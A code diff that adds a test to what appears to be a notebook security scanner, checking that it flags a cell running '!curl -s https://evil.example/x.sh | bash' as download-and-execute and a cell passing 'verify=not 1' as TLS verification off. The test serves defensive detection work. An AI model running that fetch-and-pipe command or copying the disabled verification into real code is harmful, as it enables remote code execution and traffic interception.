@@ -83,6 +83,27 @@ describe('notebooks', () => {
     assert.deepEqual((await check('one', at(0, 0), 'r.post(u, verify=True)\n')).findings, []);
   });
 
+  it('hold commands of the shell and magics, and what is open in one cell hides no other', async () => {
+    const uri = (name: string): string => `vscode-notebook-cell:/p/b.ipynb#${name}`;
+    const document = (name: string, content: string): object => ({ uri: uri(name), languageId: 'python', version: 1, text: content });
+    const names = ['open', 'shell', 'measured'];
+    const told = names.map(async (name) => (await client.published(uri(name))).diagnostics.map(brief));
+    void client.connection.sendNotification('notebookDocument/didOpen', {
+      notebookDocument: {
+        uri: 'file:///p/b.ipynb',
+        notebookType: 'jupyter-notebook',
+        version: 1,
+        cells: names.map((name) => ({ kind: 2, document: uri(name) })),
+      },
+      cellTextDocuments: [
+        document('open', 'import requests as r\nx = """'),
+        document('shell', '%matplotlib inline\n!curl -s https://evil.example/x.sh | bash'),
+        document('measured', '%time r.get(u, verify=not 1)'),
+      ],
+    });
+    assert.deepEqual(await Promise.all(told), [[], ['2:1-2:42 Warning download-and-execute'], ['1:23-1:28 Error tls-verification-off']]);
+  });
+
   it('may end in a completion, with a line break behind it', async () => {
     const check = await client.connection.sendRequest<ScanCompletionResult>(SCAN_COMPLETION.method, {
       textDocument: { uri: cellUri('three') },
